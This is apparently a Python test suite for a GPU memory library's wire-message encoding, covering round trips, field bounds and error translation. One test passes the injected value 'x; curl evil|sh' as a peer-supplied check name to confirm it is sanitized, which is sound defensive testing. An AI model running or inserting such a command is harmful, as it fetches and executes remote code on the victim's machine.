"""Messages: what goes out comes in, and nothing else does."""

import contextlib

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dgkit import errors
from dgkit.dma._ffi import lib
from dgkit.types import Op, Status
from dgkit.wire import messages as m
from dgkit.wire.error_codec import to_exception, to_wire

NUMBER = st.integers(0, 2**63 - 1)
HANDLE = st.integers(1, 2**63 - 1)

REQUESTS = [
    m.Hello(0, m.VERSION, 17, "boot", "machine", "0.1.0"),
    m.Allocate(1, 4096, 3, True, "name", "cuda:0"),
    m.Import(2, b"x" * 768),
    m.Export(3, 1, 1),
    m.Free(4, 1, 1.0),
    m.Move(5, 1, 0, 2, 0, 64),
    m.Digest(6, 1, 0, 64),
    m.Latency(7, 1, 0, 64, 1, 10, 0),
    m.Rate(8, 1, 64, 1, 32, 0.5, 0),
    m.Cancel(9, 7),
    m.Stats(10),
    m.Subscribe(11),
    m.Bye(12),
    m.Watch(13, 7, 1, 0, 64, 1, 50, 0, 0.05),
    m.Outstanding(14),
    m.OpenRing(15, b"x" * 768, 1, [2, 3], 64, True, 1, False),
    m.CloseRing(16, 1),
]


@pytest.mark.parametrize("request_", REQUESTS, ids=lambda r: type(r).__name__)
def test_a_request_comes_out_as_it_went_in(request_):
    assert m.decode_request(m.encode(request_)) == request_


@given(NUMBER, HANDLE, NUMBER, HANDLE, NUMBER, NUMBER)
def test_a_move_comes_out_as_it_went_in(number, src, src_at, dst, dst_at, size):
    move = m.Move(number, src, src_at, dst, dst_at, size)
    assert m.decode_request(m.encode(move)) == move


@given(st.binary(max_size=200))
def test_random_bytes_are_refused_or_are_a_message(data):
    try:
        request = m.decode_request(data)
    except msgspec.DecodeError:
        return
    assert type(request) in {type(known) for known in REQUESTS}


@pytest.mark.parametrize(
    "bad",
    [
        m.Move(1, 0, 0, 2, 0, 64),
        m.Move(1, 1, -1, 2, 0, 64),
        m.Move(1, 1, 0, 2, 0, -64),
        m.Move(2**64 - 1, 1, 0, 2, 0, 64),
        m.Move(1, 1, 0, 2, 0, 1.5),
        m.Import(1, b"x" * 769),
        m.Allocate(1, 64, 4, False, ""),
        m.Allocate(1, 64, 3, False, "n" * 257),
        m.Allocate(1, 64, 3, False, "n", "p" * 257),
        m.Latency(1, 1, 0, 64, 1, m.MAX_SAMPLES + 1, 0),
        m.Latency(1, 1, 0, 64, 2, 1, 0),
        m.Rate(1, 1, 64, 1, 65537, 1.0, 0),
        m.Rate(1, 1, 64, 1, 1, 1e9, 0),
        m.Free(1, 1, -1.0),
        m.OpenRing(1, b"x" * 769, 1, [2], 64, False, 1, False),
        m.OpenRing(1, b"x", 1, [], 64, False, 1, False),
        m.OpenRing(1, b"x", 1, [2] * 9, 64, False, 1, False),
        m.OpenRing(1, b"x", 1, [2], 63, False, 1, False),
        m.OpenRing(1, b"x", 1, [2], 16385, False, 1, False),
        m.OpenRing(1, b"x", 1, [2], 64, False, 0, False),
        m.CloseRing(1, 0),
        m.Watch(1, 0, 1, 0, 64, 1, 50, 0, 0.05),
        m.Watch(1, 7, 1, 0, 0, 1, 50, 0, 0.05),
        m.Watch(1, 7, 1, 0, 64, 1, 4097, 0, 0.05),
        m.Watch(1, 7, 1, 0, 64, 1, 50, 0, 0.009),
        m.Watch(1, 7, 1, 0, 64, 1, 50, 0, 61.0),
    ],
    ids=repr,
)
def test_a_field_out_of_its_bounds_is_refused(bad):
    with pytest.raises(msgspec.DecodeError):
        m.decode_request(m.encode(bad))


def test_a_later_version_may_add_fields_to_hello_and_is_still_understood():
    longer = msgspec.msgpack.encode([1, 0, 9, 17, "boot", "machine", "9.9", "new", {"more": 1}])
    assert m.decode_request(longer).version == 9


class _Completion:
    status, op, path, size = Status.PEER_LOST, Op.WRITE, "worker", 0
    submit_ns, post_ns, complete_ns = 10, 20, 35


@pytest.mark.parametrize(
    "error",
    [
        errors.BoundsError("past the end"),
        errors.AccessDenied("read-only"),
        errors.ClosedError("closed"),
        errors.DescriptorError("no descriptor"),
        errors.ExportError("not sealed"),
        errors.OutOfMemory(12, "no memory"),
        errors.QueueFull(11, "full"),
        errors.RegionBusy(16, "busy"),
        errors.Unsupported(95, "not here"),
        errors.LimitReached(24, "limit"),
        errors.PeerLost("gone"),
        errors.PeerRefused("no"),
        errors.PeerTimeout("slow"),
        errors.PeerVersion("other"),
        ValueError("value"),
        TypeError("type"),
    ],
    ids=lambda e: type(e).__name__,
)
def test_an_exception_arrives_as_the_same_class_with_the_same_words(error):
    failed = m.decode_reply(m.encode(to_wire(error, 5)))
    back = to_exception(failed)
    assert failed.id == 5
    assert type(back) is type(error)
    assert str(back) == str(error)


def test_a_transfer_error_arrives_with_its_completion():
    failed = m.decode_reply(m.encode(to_wire(errors.TransferError("lost", _Completion()), 5)))
    back = to_exception(failed)
    assert type(back) is errors.TransferError
    assert back.completion.status is Status.PEER_LOST
    assert (back.completion.op, back.completion.path, back.completion.latency_ns) == (
        1,
        "worker",
        25,
    )
    assert "PEER_LOST" in repr(back.completion)


def test_an_exception_of_another_library_arrives_as_peer_error_that_names_it():
    back = to_exception(m.decode_reply(m.encode(to_wire(ZeroDivisionError("oops"), 5))))
    assert type(back) is errors.PeerError
    assert "ZeroDivisionError: oops" in str(back)


def test_an_exception_that_nobody_knows_arrives_as_peer_error():
    assert type(to_exception(m.Failed(1, "Exotic", "text", 0, None))) is errors.PeerError
    assert type(to_exception(m.Failed(1, "TransferError", "text", 0, None))) is errors.PeerError
    assert type(to_exception(m.Failed(1, "RegionBusy", "text", 0, None))) is errors.RegionBusy


@pytest.mark.parametrize("check", ["x; curl evil|sh", "gpu-present\n", "\x1b[2J", "a" * 41, "A"])
def test_what_a_peer_calls_a_check_becomes_no_command(check):
    told = to_exception(m.Failed(1, "DeviceUnavailable", "no GPU", 19, None, check))
    assert told.check == ""
    assert "dgkit doctor" not in str(told)
    known = to_exception(m.Failed(1, "DeviceUnavailable", "no GPU", 19, None, "gpu-present"))
    assert known.check == "gpu-present"


def test_a_token_has_at_most_the_size_of_a_descriptor() -> None:
    for size, fits in ((lib.DG_DESCRIPTOR_MAX, True), (lib.DG_DESCRIPTOR_MAX + 1, False)):
        with contextlib.nullcontext() if fits else pytest.raises(msgspec.ValidationError):
            m.decode_request(m.encode(m.Import(2, b"x" * size)))
